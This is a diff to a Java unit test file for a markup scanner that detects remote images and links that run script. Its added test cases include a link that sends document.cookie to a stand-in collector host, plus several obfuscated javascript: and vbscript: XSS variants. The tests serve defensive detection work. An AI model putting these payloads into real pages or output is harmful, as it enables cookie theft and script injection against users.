@@ -14,8 +14,8 @@ import org.junit.jupiter.api.Test;
  * What a renderer would fetch from elsewhere, read as renderers and browsers read it: every spelling that moves a
  * URL to another host is an attack here, and every image that stays on the page's origin or a listed host passes.
  */
-class RemoteImagesTest {
-    static final RemoteImages IMAGES = new RemoteImages(List.of(DomainPattern.parse("cdn.example.com"), DomainPattern.parse("*.images.example.org")));
+class ActiveMarkupTest {
+    static final ActiveMarkup IMAGES = new ActiveMarkup(List.of(DomainPattern.parse("cdn.example.com"), DomainPattern.parse("*.images.example.org")));
 
     static List<Finding> scan(String text, boolean complete) {
         List<Finding> out = new ArrayList<>();
@@ -79,7 +79,7 @@ class RemoteImagesTest {
         List<Finding> f = scan(text, true);
         assertThat(f).as(text).isNotEmpty();
         assertThat(f).allSatisfy(x -> {
-            assertThat(x.type()).isEqualTo(RemoteImages.TYPE);
+            assertThat(x.type()).isEqualTo(ActiveMarkup.REMOTE_IMAGE);
             assertThat(x.category()).isEqualTo(Finding.Category.MARKUP);
         });
         // the finding covers the URL, so redacting it leaves nothing to fetch
@@ -111,6 +111,39 @@ class RemoteImagesTest {
     })
     void passesWhatStaysOnTheOriginOrAListedHost(String text) {
         assertThat(scan(text, true)).as(text).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "[Verify your account](javascript:fetch('//collector.example.net/?c='+document.cookie))",
+            "[x](JavaScript:alert(1))",
+            "[x](  javascript:alert(1))",
+            "[x](<java\tscript:alert(1)>)",                          // tabs are removed from URLs
+            "[x](&#106;avascript:alert(1))",                       // character references are decoded
+            "[x](javascript&colon;alert(1))",
+            "[x](vbscript:msgbox(1))",
+            "[x](javascript:alert(1) \"Click me\")",
+            "[ref]: javascript:alert(1)",                           // a definition a reference link may use
+            "[![badge](/ok.png)](javascript:alert(1))",               // a linked image: the link runs script
+    })
+    void reportsLinksThatRunScript(String text) {
+        assertThat(scan(text, true)).as(text).anySatisfy(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"[docs](https://docs.python.org/3/)", "[x](javascript.html)", "[x](/javascript:alert)", "[x](./javascript:x)",
+            "<a href=\"javascript:void(0)\">menu</a>", "Use `javascript:` URLs sparingly", "[x](mailto:a@example.com)",
+            "[x](java\\script:alert(1))"})                         // "\\s" is no escape: a relative URL to a browser
+    void passesLinksThatDoNot(String text) {
+        assertThat(scan(text, true)).as(text).noneSatisfy(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
+    }
+
+    @Test
+    void aLinkIsHeldWhileItCouldStillBecomeAScriptLinkOnly() {
+        assertThat(scan("see [x](java", false)).singleElement().satisfies(f -> assertThat(f.start()).isEqualTo(4));
+        assertThat(scan("see [x](javascript:alert(1) \"ti", false)).singleElement().satisfies(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
+        assertThat(scan("see [x](https://docs.exa", false)).as("an ordinary link flows").isEmpty();
+        assertThat(scan("see [x](https://docs.example.com/ \"ti", false)).isEmpty();
     }
 
     @Test
@@ -176,11 +209,11 @@ class RemoteImagesTest {
 
     @Test
     void unfinishedMarkupIsHeldOnlySoLong() {
-        String text = "![" + "a".repeat(RemoteImages.MAX_PENDING * 2);
+        String text = "![" + "a".repeat(ActiveMarkup.MAX_PENDING * 2);
         List<Finding> f = scan(text, false);
         assertThat(f).singleElement().satisfies(x -> {
             assertThat(x.start()).isZero();
-            assertThat(x.end()).isEqualTo(RemoteImages.MAX_PENDING); // decided (redacted) as it stands; the opener goes with it
+            assertThat(x.end()).isEqualTo(ActiveMarkup.MAX_PENDING); // decided (redacted) as it stands; the opener goes with it
         });
     }
 
@@ -212,10 +245,10 @@ class RemoteImagesTest {
 
     @Test
     void decodesCharacterReferencesAsABrowserDoes() {
-        assertThat(RemoteImages.decodeReferences("&#104;&#x74;tps&colon;&sol;&sol;a")).isEqualTo("https://a");
-        assertThat(RemoteImages.decodeReferences("&#104ttps")).isEqualTo("https"); // numeric ones need no ';'
-        assertThat(RemoteImages.decodeReferences("a?x=1&b=2&amp;c=3")).isEqualTo("a?x=1&b=2&c=3");
-        assertThat(RemoteImages.decodeReferences("&unknownname;")).isNull();
-        assertThat(RemoteImages.decodeReferences("&#0;")).isEqualTo("\uFFFD");
+        assertThat(ActiveMarkup.decodeReferences("&#104;&#x74;tps&colon;&sol;&sol;a")).isEqualTo("https://a");
+        assertThat(ActiveMarkup.decodeReferences("&#104ttps")).isEqualTo("https"); // numeric ones need no ';'
+        assertThat(ActiveMarkup.decodeReferences("a?x=1&b=2&amp;c=3")).isEqualTo("a?x=1&b=2&c=3");
+        assertThat(ActiveMarkup.decodeReferences("&unknownname;")).isNull();
+        assertThat(ActiveMarkup.decodeReferences("&#0;")).isEqualTo("\uFFFD");
     }
 }
